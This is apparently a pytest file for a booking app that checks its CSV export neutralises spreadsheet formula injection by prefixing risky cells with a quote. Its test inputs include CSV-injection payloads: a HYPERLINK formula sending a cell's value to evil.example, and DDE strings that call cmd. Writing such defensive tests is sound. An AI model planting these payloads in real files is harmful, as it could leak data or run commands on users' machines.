"""Formula-safe CSV (OWASP CSV injection): what a spreadsheet would evaluate is text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from booking_app.integrations.csv_export import csv_bytes, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?g="&B2,"guest")',
        "+380671112233",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",  # spreadsheets skip leading blanks
        "\n@x",
        "-",
    ],
)
def test_cells_a_spreadsheet_would_evaluate_start_with_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Ivan Guest", "", "a=b", "e-mail", "-5", "12.50", "-1001234567890", 0, -5, Decimal("-1.5")],
)
def test_plain_text_and_numbers_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_none_is_an_empty_cell_and_other_values_are_text() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(["=1"]) == "['=1']"  # str() of it starts with "[": harmless
    assert safe_cell(True) is True


def test_csv_bytes_neutralises_every_cell_and_quotes_properly() -> None:
    body = csv_bytes(["name", "=header"], [['=1+2,"x"', 3], [None, "ok"]])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"))))
    assert rows == [["name", "'=header"], ['\'=1+2,"x"', "3"], ["", "ok"]]
